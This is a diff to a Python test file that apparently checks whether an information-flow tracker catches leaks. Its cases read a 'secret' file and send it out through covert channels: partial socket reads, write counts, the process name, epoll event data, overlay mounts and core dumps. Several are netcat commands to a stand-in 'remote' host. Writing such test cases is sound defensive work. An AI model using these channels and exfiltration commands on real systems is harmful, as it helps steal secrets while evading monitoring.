@@ -1,7 +1,7 @@
 # SPDX-License-Identifier: GPL-3.0-or-later
 """Leaks through each channel: one process reads, another sends."""
 
-from guest_run import SECRET
+from guest_run import CONTENT, SECRET
 from row import Leak, exactly, holds, python, snippet
 
 
@@ -54,6 +54,47 @@ digest.bind(("hash", "sha256"))
 request = digest.accept()[0]
 request.sendall(open("secret", "rb").read())
 socket.create_connection(("10.77.0.2", 9)).sendall(request.recv(32))
+"""
+
+# The first four of the clean bytes are gone when derived ones come after them.
+READ_IN_PART = """
+import os
+def read_in_part(to, source):
+    to.sendall(b"." * 100)
+    source.recv(4)
+    if not os.fork():
+        to.sendall(read())
+        os._exit(0)
+    os.wait()
+    got = b""
+    while len(got) < 100:
+        got += source.recv(100 - len(got))
+    send(got[96:])
+"""
+TCP_PAIR = """
+listener = socket.create_server(("127.0.0.1", 0))
+client = socket.create_connection(listener.getsockname())
+read_in_part(client, listener.accept()[0])
+"""
+WRITTEN = """
+import os
+send(b"%d" % os.write(os.open("/dev/null", os.O_WRONLY), b"x" * read()[12]))
+"""
+NAME = """
+import ctypes
+ctypes.CDLL(None).prctl(15, read()[17:31])
+with open("/proc/self/comm", "rb") as file:
+    send(file.read())
+"""
+EVENT = """
+import ctypes, os
+class Event(ctypes.Structure):
+    _pack_, _fields_ = 1, [("events", ctypes.c_uint32), ("data", ctypes.c_uint64)]
+system, writes = ctypes.CDLL(None), os.pipe()[1]
+set = system.epoll_create1(0)
+system.epoll_ctl(set, 1, writes, ctypes.byref(Event(4, int.from_bytes(read()[17:25], "little"))))
+system.epoll_wait(set, ctypes.byref(event := Event()), 1, -1)
+send(event.data.to_bytes(8, "little"))
 """
 
 
@@ -147,6 +188,12 @@ LEAKS = [Leak(name, script) for name, script in scripts().items()] + [
     Leak("kernel-digest", python(HASH), shows=lambda data: len(data) == 32),
     Leak("overlay", "mkdir upper work merged lower; cp secret lower/secret; "
          "mount -t overlay -o lowerdir=lower,upperdir=upper,workdir=work none merged; nc remote 9 < merged/secret; umount -l merged"),
+    Leak("socket-read-in-part", snippet(READ_IN_PART + "read_in_part(*socket.socketpair())"), shows=exactly(CONTENT[:4])),
+    Leak("tcp-read-in-part", snippet(READ_IN_PART + TCP_PAIR), shows=exactly(CONTENT[:4])),
+    Leak("count-of-write", snippet(WRITTEN), shows=exactly(b"%d" % CONTENT[12])),
+    Leak("name-given-back", snippet(NAME), shows=exactly(SECRET[:14])),
+    Leak("data-of-event", snippet(EVENT), shows=exactly(SECRET[:8])),
+    Leak("pipe-to-thread-after-main", "cat secret | way reading-thread-after-main secret"),
     Leak("process-name", "way name secret", shows=exactly(SECRET + b"0")),
 ]
 # The kernel refuses to put it where it could not follow.
@@ -156,6 +203,7 @@ REFUSED = [
     Leak("attribute", "touch other; setfattr -n user.x -v \"$(sed -n 2p secret)\" other; "
          "getfattr -n user.x --only-values other | nc remote 9",
          shows=holds(SECRET)),
+    Leak("pipe-to-32-bit-call", "{ sleep 0.3; cat secret; } | way calls-of-32-bit secret"),
     Leak("core", "ulimit -c unlimited; echo core > /proc/sys/kernel/core_pattern; way core secret; nc remote 9 < core"),
     Leak("core-of-shell", "ulimit -c unlimited; echo core > /proc/sys/kernel/core_pattern; bash -c 'x=$(< secret); kill -SEGV $$'; "
          "nc remote 9 < core"),
